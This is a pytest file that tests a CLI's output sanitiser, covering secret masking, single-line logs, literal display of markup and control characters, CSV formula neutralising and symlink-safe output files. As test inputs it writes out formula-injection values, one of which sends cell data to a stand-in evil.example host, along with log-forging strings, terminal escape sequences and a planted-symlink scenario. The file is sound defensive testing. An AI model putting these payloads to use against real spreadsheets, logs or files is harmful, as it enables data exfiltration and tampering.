"""Text made safe where it is shown: secrets masked in every form, outside text inert, values cut.

Outside text is data: tables show it literally, logs keep it on one line, CSV never runs it,
-o never follows a plant.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import sqlite3
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler import logs
from reconciler.redact import MASK, Redactor, csv_cell, describe, one_line, show

from .conftest import run_cli

U = "71452784-AFC7-4BE5-8623-3BA1436D573B"
RFC = "AAA010101AAA"
MARKUP_FROM = "[/]evil[bold]@attacker.example"
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
MARKUP_MID = "<[link=https://evil.example/]click[/link]@forgery.test>"


# -- pure ----------------------------------------------------------------------------------------


@given(st.text())
def test_one_line_never_leaves_a_control_character(text: str) -> None:
    out = one_line(text)
    assert not [ch for ch in out if unicodedata.category(ch) in ("Cc", "Zl", "Zp") or ch in BIDI]
    if text.isprintable():
        assert out == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("hola\nINFO forged", "hola\\nINFO forged"),
        ("a\r\nb\tc", "a\\r\\nb\\tc"),
        ("\x1b[31mred\x00", "\\x1b[31mred\\x00"),
        ("abc\u202edcba", "abc\\u202edcba"),
        ("line\u2028sep", "line\\u2028sep"),
        ("Solución [/] ok", "Solución [/] ok"),
    ],
)
def test_one_line_escapes_what_moves_text(text: str, shown: str) -> None:
    assert one_line(text) == shown


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Solicitud aceptada", "Solicitud aceptada"),
        ("", ""),
        (-5, -5),
        (True, True),
    ],
)
def test_csv_cell_neutralises_formula_starts(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


# -- secrets: every form the log filter, the SOAP redactor and the IMAP error text masked --------

SECRET = "s3cr3t&<Pass>"  # XML-special characters: in a SOAP envelope it travels escaped


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (f"login failed for {SECRET}", f"login failed for {MASK}"),  # the value itself
        ("<ns0:password>s3cr3t&amp;&lt;Pass&gt;</ns0:password>", f"<ns0:password>{MASK}</ns0:password>"),
        ("fault: s3cr3t&amp;&lt;Pass&gt; rejected", f"fault: {MASK} rejected"),  # escaped, outside an element
        ("<csdPassword>other</csdPassword>", f"<csdPassword>{MASK}</csdPassword>"),  # a secret element's content
        ("<CSDKEY xmlns='x'>\nQUJD\n</CSDKEY>", f"<CSDKEY xmlns='x'>{MASK}</CSDKEY>"),
        ("<ns1:usuario>me</ns1:usuario>", "<ns1:usuario>me</ns1:usuario>"),  # not a secret
        (f"{SECRET}{SECRET}x", f"{MASK}{MASK}x"),
    ],
)
def test_redactor_masks_every_form_of_a_secret(text: str, masked: str) -> None:
    assert Redactor([SECRET, "", "abc"])(text) == masked


def test_redactor_masks_the_longer_secret_first_and_cuts_to_the_limit() -> None:
    redact = Redactor(["hunter2", "hunter22"])
    assert redact("pw hunter22") == f"pw {MASK}"  # not "***2"
    assert redact("x" * 50, limit=10) == "x" * 10 + "... (40 more characters)"
    assert not Redactor(["abc", ""]) and Redactor(["abcd"])  # shorter than 4: not masked in logs


@given(st.text(min_size=4), st.text(), st.text())
def test_redactor_never_leaves_a_secret(secret: str, before: str, after: str) -> None:
    assert secret not in Redactor([secret])(before + secret + after).replace(MASK, "\0")


def test_describe_masks_any_secret_on_one_short_line() -> None:
    error = OSError("AUTHENTICATE failed\r\n for user me with pw\t ab")
    assert describe(error, "ab") == f"AUTHENTICATE failed for user me with pw {MASK}"
    assert describe([b"NO", "[AUTHENTICATIONFAILED]", b"pw=" + SECRET.encode()], SECRET) == (
        f"NO [AUTHENTICATIONFAILED] pw={MASK}"
    )
    assert describe(ValueError()) == "ValueError"
    assert describe("x" * 300) == "x" * 200
    assert describe(f"token <password>{SECRET}</password>", limit=30) == f"token <password>{MASK}</password>"[:30]


@pytest.mark.parametrize(
    ("error", "text"),
    [
        # imapclient puts the repr of the server's bytes in its errors: the reader gets the words
        (Exception("b'[AUTHENTICATIONFAILED] Invalid credentials'"), "[AUTHENTICATIONFAILED] Invalid credentials"),
        (Exception('b"it\'s [UNAVAILABLE]"'), "it's [UNAVAILABLE]"),
        (Exception("b'caf\\xc3\\xa9 \\xff'"), "café \ufffd"),
        (Exception("b''"), ""),
        (Exception("b'"), "b'"),
        (Exception("b'x\""), "b'x\""),
        (Exception("b'x' + b'y'"), "b'x' + b'y'"),
        (Exception("b'open \\'"), "b'open \\'"),
        (Exception("a'x'"), "a'x'"),
        (Exception("'x'"), "'x'"),
        (Exception("bb'x'"), "bb'x'"),
    ],
)
def test_describe_turns_a_bytes_repr_back_into_text(error: Exception, text: str) -> None:
    assert describe(error) == text


@pytest.mark.parametrize(
    ("value", "limit", "shown"),
    [
        ("abc", 60, "'abc'"),
        ("a\nb", 60, "'a\\nb'"),
        ("x" * 100, 60, "'" + "x" * 56 + "...'"),
        ("x" * 100, 80, "'" + "x" * 76 + "...'"),
        (12345, 3, "...'"),
    ],
)
def test_show_quotes_and_cuts_to_the_limit(value: object, limit: int, shown: str) -> None:
    assert show(value, limit) == shown
    assert len(show(value, limit)) <= max(limit + 1, 4)


# -- logs ----------------------------------------------------------------------------------------


@pytest.fixture
def stderr_log(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """logs.setup() writing to a buffer; the root logger is restored afterwards."""
    buffer = io.StringIO()
    monkeypatch.setattr(sys, "stderr", buffer)
    root = logging.getLogger()
    saved = (list(root.handlers), root.level)
    logs.setup("info", journal=True, secrets=["s3cr3t-Password"])
    yield buffer
    root.handlers[:], root.level = saved


def test_a_log_argument_cannot_forge_a_line(stderr_log: io.StringIO) -> None:
    log = logging.getLogger("reconciler.provider.soap")
    log.warning("cancelarAsincrono for %s: unknown code %d (%s)", U, 987, "hola\nERROR reconciler.daemon.loops: forged")
    log.info("from %r and %s", "a\r\nb", "password s3cr3t-Password\nnext")
    lines = stderr_log.getvalue().splitlines()
    assert lines == [  # under journald (this fixture): each line with its syslog priority
        f"<4>WARNING reconciler.provider.soap: cancelarAsincrono for {U}: unknown code 987 "
        "(hola\\nERROR reconciler.daemon.loops: forged)",
        "<6>INFO reconciler.provider.soap: from 'a\\r\\nb' and password ***\\nnext",
    ]


def test_a_traceback_stays_multi_line_and_masked(stderr_log: io.StringIO) -> None:
    try:
        raise ValueError("bad s3cr3t-Password")
    except ValueError:
        logging.getLogger("reconciler.daemon.loops").exception("pass failed for %s", "x\ny")
    text = stderr_log.getvalue()
    first, *rest = text.splitlines()
    assert first == "<3>ERROR reconciler.daemon.loops: pass failed for x\\ny"
    assert rest[0] == "<3>Traceback (most recent call last):" and rest[-1] == "<3>ValueError: bad ***"
    assert all(line.startswith("<3>") for line in rest)  # journalctl -p err shows the whole traceback
    assert "s3cr3t" not in text


# -- the CLI's tables, CSV and files -------------------------------------------------------------


@pytest.fixture
def ledger_env(tmp_path: Path) -> dict[str, str]:
    cfg = tmp_path / "c.toml"
    cfg.write_text(f'[ledger]\npath = "{tmp_path / "state" / "ledger.db"}"\n')
    return {"RECONCILER_CONFIG": str(cfg)}


def hostile_job(tmp_path: Path, env: dict[str, str], message: str) -> None:
    """A job whose provider message and mail event carry outside text, as the daemon would record them."""
    assert run_cli("submit", U, "--rfc", RFC, env=env).returncode == 0
    with sqlite3.connect(tmp_path / "state" / "ledger.db") as db:
        db.execute("UPDATE jobs SET message = ?, code = 987 WHERE uuid = ?", (message, U))
        detail = {"sender": MARKUP_FROM, "message_id": MARKUP_MID, "reason": "From not allowed\n\x1b[2J"}
        db.execute(
            "INSERT INTO events (uuid, at, kind, source, detail) VALUES (?, '2026-01-01T00:00:00.000Z', "
            "'untrusted', 'mailbox', ?)",
            (U, json.dumps(detail, ensure_ascii=False)),
        )


def test_status_shows_markup_and_controls_literally(ledger_env: dict[str, str], tmp_path: Path) -> None:
    hostile_job(tmp_path, ledger_env, "[red]hola[/red]\nFORGED ROW\x1b[31m")
    one = run_cli("status", U, env=ledger_env)
    assert one.returncode == 0, one.stderr
    assert "Traceback" not in one.stderr and "MarkupError" not in one.stderr
    out = one.stdout
    assert "[/]evil[bold]@attacker.example" in out
    assert "[link=https://evil.example/]click[/link]" in out
    assert "[red]hola[/red]\\nFORGED ROW\\x1b[31m" in out
    assert "\x1b" not in out and "FORGED ROW\n" not in out
    many = run_cli("status", env=ledger_env)
    assert many.returncode == 0 and U in many.stdout
    assert json.loads(run_cli("status", U, "--json", env=ledger_env).stdout)["message"].startswith("[red]hola")


def test_csv_export_never_emits_a_live_formula(ledger_env: dict[str, str], tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"ver acuse")'
    hostile_job(tmp_path, ledger_env, formula)
    out = run_cli("export", "--format", "csv", env=ledger_env)
    assert out.returncode == 0, out.stderr
    [row] = list(csv.DictReader(out.stdout.splitlines()))
    assert row["message"] == "'" + formula and row["uuid"] == U and row["code"] == "987"
    jsonl = run_cli("export", "--format", "jsonl", env=ledger_env).stdout
    assert json.loads(jsonl)["message"] == formula  # JSON lines are for programs: the value as it is


def test_output_file_never_follows_a_planted_symlink(ledger_env: dict[str, str], tmp_path: Path) -> None:
    hostile_job(tmp_path, ledger_env, "ok")
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    shared = tmp_path / "shared"
    shared.mkdir()
    target = shared / "export.csv"
    (shared / ".export.csv.tmp").symlink_to(victim)  # the name the old code wrote through
    result = run_cli("export", "-o", str(target), env=ledger_env)
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "precious\n"
    assert U in target.read_text() and not target.is_symlink()
    assert sorted(p.name for p in shared.iterdir()) == [".export.csv.tmp", "export.csv"]  # no temporary left
    # A symlink planted at the target itself is replaced, never written through.
    with sqlite3.connect(tmp_path / "state" / "ledger.db") as db:
        db.execute("UPDATE jobs SET acuse = ? WHERE uuid = ?", (b"<Acuse/>", U))
    (shared / "acuse.xml").symlink_to(victim)
    assert run_cli("acuse", U, "-o", str(shared / "acuse.xml"), env=ledger_env).returncode == 0
    assert victim.read_text() == "precious\n" and (shared / "acuse.xml").read_bytes() == b"<Acuse/>"


def test_output_file_is_removed_when_the_write_fails(ledger_env: dict[str, str], tmp_path: Path) -> None:
    hostile_job(tmp_path, ledger_env, "ok")
    (tmp_path / "state" / "ledger.db").write_bytes(b"not a ledger")  # the export fails mid-way
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli("export", "-o", str(out / "x.csv"), env=ledger_env)
    assert result.returncode == 1 and result.stderr.count("\n") == 1
    assert list(out.iterdir()) == []


def run_closed_stdout(*args: str, env: dict[str, str], stdout: int | None = None) -> subprocess.CompletedProcess[str]:
    """The CLI started with its stdout closed (``>&-``), or on ``stdout``."""
    full = {**os.environ, **env}
    if stdout is None:
        cmd = [sys.executable, "-c", "import os, sys, subprocess; os.close(1); sys.exit(subprocess.call(sys.argv[1:]))"]
        cmd += [sys.executable, "-m", "reconciler", *args]
        return subprocess.run(cmd, capture_output=False, stderr=subprocess.PIPE, text=True, env=full, timeout=60)
    cmd = [sys.executable, "-m", "reconciler", *args]
    return subprocess.run(cmd, stdout=stdout, stderr=subprocess.PIPE, text=True, env=full, timeout=60, check=False)


@pytest.mark.parametrize("command", [["export"], ["export", "--format", "jsonl"], ["status"], ["summary", "--json"]])
def test_closed_stdout_is_one_line_exit_1(ledger_env: dict[str, str], tmp_path: Path, command: list[str]) -> None:
    hostile_job(tmp_path, ledger_env, "ok")
    result = run_closed_stdout(*command, env=ledger_env)
    assert result.returncode == 1
    assert (
        result.stderr == "reconciler: stdout is closed: nothing can be written (use -o FILE where the command has it)\n"
    )


def test_a_full_stdout_is_one_line_exit_1(ledger_env: dict[str, str], tmp_path: Path) -> None:
    hostile_job(tmp_path, ledger_env, "ok")
    with open("/dev/full", "wb") as full:
        result = run_closed_stdout("export", env=ledger_env, stdout=full.fileno())
    assert result.returncode == 1
    assert result.stderr == "reconciler: cannot write to stdout: No space left on device\n"


def test_more_forms_word_for_word() -> None:
    # a paragraph separator moves text like a newline; U+0100 is a letter, never escaped
    assert one_line("a\u2029b\u0100") == "a\\u2029b\u0100"
    # the longer secret first, whatever their alphabetical order
    assert Redactor(["b", "abc"], shortest=1)("xabcx b") == f"x{MASK}x {MASK}"
    # cut only past the limit
    assert Redactor([])("abcde", limit=5) == "abcde"
    assert Redactor([])("abcdef", limit=5) == "abcde... (1 more characters)"
    # an IMAP response's undecodable bytes, and a one-character secret, on one line
    assert describe([b"NO", b"\xff"]) == "NO \ufffd"
    assert describe("code 7", "7") == f"code {MASK}"
    # only a b'...' repr is turned back into text
    assert describe(Exception("br'x'")) == "br'x'"
    assert describe(Exception("B'x'")) == "B'x'"
    assert show("a" * 8, 10) == "'aaaaaaaa'"
